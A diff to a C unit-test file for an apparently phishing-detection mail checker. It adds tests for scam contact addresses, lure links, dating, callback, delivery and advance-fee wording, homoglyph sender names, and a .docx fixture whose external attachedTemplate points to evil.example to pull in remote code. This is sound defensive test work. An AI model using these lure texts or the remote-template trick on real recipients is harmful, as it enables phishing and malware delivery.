@@ -354,12 +354,16 @@ static void test_wording(void **state)
     add_link(&f, "https://amazon.co.jp.example.top/", "amazon.co.jp.example.top", NULL);
     expect(&f, "content.credential_lure", 40);
 
-    /* Prizes and points: never decisive alone (cap 20). */
+    /* Prizes and points: two phrases are a weak sign (20); the whole story
+     * (congratulations, points, redeem, expiring) is a clear one (30). */
     fx_init(&f);
-    f.m.subject = S("Parabéns! Seus pontos vão vencer");
-    f.m.text = S("Resgate seus pontos agora e troque por prêmios.");
+    f.m.subject = S("Parabéns");
+    f.m.text = S("Troque por prêmios.");
     add_link(&f, "https://pontos.example.top/", "pontos.example.top", NULL);
     expect(&f, "content.prize_lure", 20);
+    f.m.subject = S("Parabéns! Seus pontos vão vencer");
+    f.m.text = S("Resgate seus pontos agora e troque por prêmios.");
+    expect(&f, "content.prize_lure", 30);
 
     /* Developer mail: passwords and accounts are the topic, not a lure. */
     fx_init(&f);
@@ -503,11 +507,253 @@ static void test_intel(void **state)
     mail_result_free(&f.r);
 }
 
+
+static const struct mail_reason *run_lure(struct fx *f, const char *id)
+{
+    mail_result_free(&f->r);
+    memset(&f->r, 0, sizeof f->r);
+    mail_check_lure(&f->m, &f->ctx, &f->r);
+    return find(f, id);
+}
+
+static void expect_lure(struct fx *f, const char *id, int score)
+{
+    const struct mail_reason *x = run_lure(f, id);
+    if (!x)
+        fail_msg("expected %s", id);
+    if (x->score != score)
+        fail_msg("%s: score %d, expected %d (%s)", id, x->score, score, x->evidence);
+}
+
+static void test_contact(void **state)
+{
+    (void)state;
+    struct fx f = {0};
+    /* 419 and romance: write to another free mail account. */
+    fx_init(&f);
+    f.m.text = S("I will send You my photo. Response me to fomichev.m@outlook.com , have a nice time");
+    expect_lure(&f, "content.contact_freemail", 30);
+    fx_init(&f);
+    f.m.text = S("Para mais informações sobre sua doação, entre em contato com: bha7ce@gmail.com");
+    expect_lure(&f, "content.contact_freemail", 30);
+    /* The sender's own address in a signature, patch trailers, quoted
+     * history, or an address nobody is asked to write to: nothing. */
+    fx_init(&f);
+    f.m.from.addr = S("taro.dev@gmail.com");
+    f.m.from.domain = S("gmail.com");
+    f.m.text = S("Thanks, please reply to me at taro.dev@gmail.com\n"
+                 "Reported-by: Ann <ann.k@gmail.com>\n"
+                 "On Mon, Bob <bob@gmail.com> wrote:\n> contact bob@gmail.com\n"
+                 "The test account was created as tester@yahoo.com last week.");
+    assert_null(run_lure(&f, "content.contact_freemail"));
+    /* The sender's own private account: a name both addresses share. */
+    fx_init(&f);
+    f.m.from.display = S("Tanaka Hiroshi");
+    f.m.from.addr = S("tanaka@example.co.jp");
+    f.m.text = S("来週は出張のため、ご連絡は hiroshi.tanaka.home@gmail.com までお願いします。");
+    assert_null(run_lure(&f, "content.contact_freemail"));
+    /* Free mail to free mail, replies to yet another account. */
+    fx_init(&f);
+    f.m.from.addr = S("michael-w@mail.com");
+    f.m.from.domain = S("mail.com");
+    f.m.reply_to.addr = S("mikespende@gmail.com");
+    f.m.reply_to.domain = S("gmail.com");
+    expect_lure(&f, "content.contact_freemail", 30);
+    /* Chat handles. */
+    fx_init(&f);
+    f.m.text = S("我们是做外贸获客营销系统的 QQ:787010974");
+    expect_lure(&f, "content.contact_chat", 20);
+    fx_init(&f);
+    f.m.text = S("Telegram has released a new version; the QQ music app too.");
+    assert_null(run_lure(&f, NULL));
+    mail_result_free(&f.r);
+}
+
+static void test_lure_links(void **state)
+{
+    (void)state;
+    struct fx f = {0};
+    /* Pictures on a public image host, in the HTML. */
+    fx_init(&f);
+    f.m.html = S("<a href=\"http://x.example.eu.com/r.php\"><img src=\"https://i.imgur.com/x9jy1qu.png\"></a>");
+    expect_lure(&f, "content.image_host", 20);
+    fx_init(&f);
+    f.m.text = S("See the screenshot at https://imgur.com/a/xyz for the panel.");
+    f.m.html = S("");
+    assert_null(run_lure(&f, "content.image_host"));
+
+    /* A brand's own address, every link to somewhere else. */
+    fx_init(&f);
+    f.m.from.addr = S("information@ma.email.aeon.co.jp");
+    f.m.from.domain = S("ma.email.aeon.co.jp");
+    add_link(&f, "https://www-aeon-co-jp.rocknroll.example.com?v", "www-aeon-co-jp.rocknroll.example.com", NULL);
+    expect_lure(&f, "content.brand_links_elsewhere", 30);
+    add_link(&f, "https://www.aeon.co.jp/", "www.aeon.co.jp", NULL);
+    assert_null(run_lure(&f, "content.brand_links_elsewhere"));
+    /* Through a list that rewrote From: the author in Reply-To counts. */
+    fx_init(&f);
+    f.m.from.display = S("info via Dev");
+    f.m.from.addr = S("dev@lists.example.org");
+    f.m.from.domain = S("lists.example.org");
+    f.m.reply_to.addr = S("info@amazon.co.jp");
+    f.m.reply_to.domain = S("amazon.co.jp");
+    f.hdr[0].name = S("List-Id");
+    f.hdr[0].value = S("<dev.lists.example.org>");
+    f.m.nheaders = 1;
+    add_link(&f, "https://buibedkglsk.xyz/a", "buibedkglsk.xyz", "アカウントの更新");
+    add_link(&f, "https://lists.example.org/listinfo/dev", "lists.example.org", NULL);
+    expect_lure(&f, "content.brand_links_elsewhere", 30);
+
+    /* A website's password mail with a lure as the user name. */
+    fx_init(&f);
+    add_link(&f, "https://shop.example.it/wp-login.php?action=rp&key=a1&login=www.x.blogspot.hr%20-%201.360%20BTC",
+             "shop.example.it", NULL);
+    expect_lure(&f, "content.signup_abuse", 30);
+    fx_init(&f);
+    add_link(&f, "https://shop.example.it/wp-login.php?action=rp&key=a1&login=mario.rossi", "shop.example.it", NULL);
+    assert_null(run_lure(&f, "content.signup_abuse"));
+
+    /* A link dressed as a file, to another domain. */
+    fx_init(&f);
+    add_link(&f, "https://www.clk.example.com/at/11pyph", "www.clk.example.com", "VER-PROCESSO-184782.pdf");
+    expect_lure(&f, "content.link_fake_attachment", 30);
+    fx_init(&f);
+    add_link(&f, "https://files.example.net/d/1", "files.example.net", "Descargar todos archivos adjuntos");
+    expect_lure(&f, "content.link_fake_attachment", 30);
+    /* A file on a file-sharing service is how big files travel. */
+    fx_init(&f);
+    add_link(&f, "https://xgf.nu/AbCd", "xgf.nu", "図面一式.zip");
+    assert_null(run_lure(&f, "content.link_fake_attachment"));
+    /* The sender's own portal showing the invoice name is fine. */
+    fx_init(&f);
+    add_link(&f, "https://portal.example.co.jp/inv/1", "portal.example.co.jp", "invoice-2026-11.pdf");
+    assert_null(run_lure(&f, "content.link_fake_attachment"));
+
+    /* Free hosting: 20 in the mail, 30 as the link of an attached PDF. */
+    fx_init(&f);
+    add_link(&f, "https://login-check-7f3a.web.app/", "login-check-7f3a.web.app", NULL);
+    expect_lure(&f, "content.link_hosting", 20);
+    f.links[0].in_attachment = true;
+    expect_lure(&f, "content.link_hosting", 30);
+    fx_init(&f);
+    add_link(&f, "https://torvalds.github.io/doc", "torvalds.github.io", NULL);
+    add_link(&f, "https://storage.googleapis.com/bucket/x.tar.gz", "storage.googleapis.com", NULL);
+    assert_null(run_lure(&f, "content.link_hosting"));
+
+    /* An attachment named after the recipient. */
+    fx_init(&f);
+    struct mail_addr to = {NULL, S("keiri@example.co.jp"), S("example.co.jp")};
+    f.m.to = &to;
+    f.m.nto = 1;
+    add_att(&f, "keiri@example.co.jp .pdf", "application/pdf", "%PDF-1.4", 8);
+    expect_lure(&f, "content.attach_named_recipient", 20);
+    f.att[0].filename = S("invoice.pdf");
+    assert_null(run_lure(&f, "content.attach_named_recipient"));
+    mail_result_free(&f.r);
+}
+
+static void test_lure_wording(void **state)
+{
+    (void)state;
+    struct fx f = {0};
+    fx_init(&f);
+    f.m.text = S("Hola! I'm unmarried opportune chick. I want to meet you, I will send you my photo.");
+    expect(&f, "content.dating_lure", 30);
+    /* A renewal you did not order and a number to call. */
+    fx_init(&f);
+    f.m.text = S("Your membership has been renewed. Amount charged: $299.00. If you are unsure, "
+                 "call our customer care to cancel your subscription for a refund: +1 802-203-6615.");
+    expect(&f, "content.callback_lure", 30);
+    /* The same words without a phone number: a real shop's receipt. */
+    f.m.text = S("Your membership has been renewed. Amount charged: $299.00. To cancel your "
+                 "subscription or ask for a refund, visit your account page.");
+    assert_null(run(&f, "content.callback_lure"));
+    /* Delivery in French, advance fee in Portuguese. */
+    fx_init(&f);
+    f.m.subject = S("Votre livraison n'a pas pu être effectuée");
+    f.m.text = S("Notre première tentative de livraison n'a pas pu aboutir. Votre colis : en attente.");
+    add_link(&f, "https://relais.example.com/x", "relais.example.com", "CHOISIR");
+    expect(&f, "content.delivery_lure", 30);
+    fx_init(&f);
+    f.m.text = S("Seu endereço de e-mail foi selecionado para receber uma doação de dois milhões de dólares "
+                 "americanos. Seu endereço foi selecionado para receber a herança.");
+    const struct mail_reason *x = run(&f, "content.advance_fee");
+    assert_non_null(x);
+    assert_true(x->score >= 30);
+    /* Marks of another alphabet on Latin letters in the sender name. */
+    fx_init(&f);
+    f.m.from.display = S("support@am\xdc\xbf" "azo\xdc\xbf" "n.com");
+    expect(&f, "content.text_obfuscation", 30);
+    f.m.from.display = S("Ren\xc3\xa9 Fran\xc3\xa7ois");
+    assert_null(run(&f, "content.text_obfuscation"));
+    mail_result_free(&f.r);
+}
+
+
+/* A stored (uncompressed) ZIP of one member, the shape of an OOXML part:
+ * local header, data, central directory entry, end record. */
+static size_t zip1(unsigned char *out, size_t cap, const char *name, const char *data)
+{
+    size_t nl = strlen(name), dl = strlen(data), o = 0;
+    assert_true(30 + nl + dl + 46 + nl + 22 <= cap);
+    unsigned char lh[30] = {'P', 'K', 3, 4, 20, 0, 0, 0, 0, 0}; /* version, flags, method 0 */
+    lh[18] = (unsigned char)dl; lh[19] = (unsigned char)(dl >> 8); /* compressed size */
+    lh[22] = (unsigned char)dl; lh[23] = (unsigned char)(dl >> 8); /* uncompressed size */
+    lh[26] = (unsigned char)nl;                                    /* name length */
+    memcpy(out + o, lh, 30); o += 30;
+    memcpy(out + o, name, nl); o += nl;
+    memcpy(out + o, data, dl); o += dl;
+    size_t cd = o;
+    unsigned char ch[46] = {'P', 'K', 1, 2, 20, 0, 20, 0, 0, 0, 0, 0};
+    ch[20] = (unsigned char)dl; ch[21] = (unsigned char)(dl >> 8); /* compressed size */
+    ch[24] = (unsigned char)dl; ch[25] = (unsigned char)(dl >> 8); /* uncompressed size */
+    ch[28] = (unsigned char)nl;                                    /* name length */
+    /* local header offset 0 (bytes 42-45) */
+    memcpy(out + o, ch, 46); o += 46;
+    memcpy(out + o, name, nl); o += nl;
+    unsigned char eocd[22] = {'P', 'K', 5, 6, 0, 0, 0, 0, 1, 0, 1, 0};
+    size_t cl = o - cd;
+    eocd[12] = (unsigned char)cl; eocd[13] = (unsigned char)(cl >> 8); /* directory size */
+    eocd[16] = (unsigned char)cd; eocd[17] = (unsigned char)(cd >> 8); /* directory offset */
+    memcpy(out + o, eocd, 22); o += 22;
+    return o;
+}
+
+static void test_office_remote(void **state)
+{
+    (void)state;
+    struct fx f = {0};
+    static unsigned char z[2048];
+    fx_init(&f);
+    size_t n = zip1(z, sizeof z, "word/_rels/settings.xml.rels",
+                    "<Relationships xmlns=\"x\"><Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/"
+                    "officeDocument/2006/relationships/attachedTemplate\"\t\t\t\t TargetMode=\"External\" "
+                    "Target=\"https://evil.example/t.dotm\"/></Relationships>");
+    add_att(&f, "PO.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", z, n);
+    expect(&f, "content.attach_remote_content", 60);
+    /* A document whose only external relationship is a hyperlink. */
+    fx_init(&f);
+    n = zip1(z, sizeof z, "word/_rels/document.xml.rels",
+             "<Relationships><Relationship Id=\"rId2\" Type=\"http://schemas.openxmlformats.org/officeDocument/"
+             "2006/relationships/hyperlink\" Target=\"https://www.example.co.jp/\" TargetMode=\"External\"/>"
+             "</Relationships>");
+    add_att(&f, "report.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", z, n);
+    assert_null(run(&f, "content.attach_remote_content"));
+    /* Truncated: every prefix must end cleanly (no reason, no crash). */
+    for (size_t k = 0; k < n; k += 7) {
+        fx_init(&f);
+        add_att(&f, "cut.docx", "application/zip", z, k);
+        run(&f, NULL);
+    }
+    mail_result_free(&f.r);
+}
+
 static void test_texts(void **state)
 {
     (void)state;
     /* Every reason id the checks use has both languages. */
-    const struct mail_reason_def *tables[] = {mail_texts_lookalike, mail_texts_content, mail_texts_intel};
+    const struct mail_reason_def *tables[] = {mail_texts_lookalike, mail_texts_content, mail_texts_intel,
+                                              mail_texts_lure};
     for (size_t t = 0; t < ARRAY_SIZE(tables); t++)
         for (const struct mail_reason_def *d = tables[t]; d->id; d++) {
             assert_non_null(d->en);
@@ -523,6 +769,8 @@ int main(void)
         cmocka_unit_test(test_links),    cmocka_unit_test(test_forms),   cmocka_unit_test(test_attachments),
         cmocka_unit_test(test_archives), cmocka_unit_test(test_wording), cmocka_unit_test(test_threads),
         cmocka_unit_test(test_bounce),   cmocka_unit_test(test_obfuscation),   cmocka_unit_test(test_intel),   cmocka_unit_test(test_texts),
+        cmocka_unit_test(test_contact),  cmocka_unit_test(test_lure_links), cmocka_unit_test(test_lure_wording),
+        cmocka_unit_test(test_office_remote),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
 }
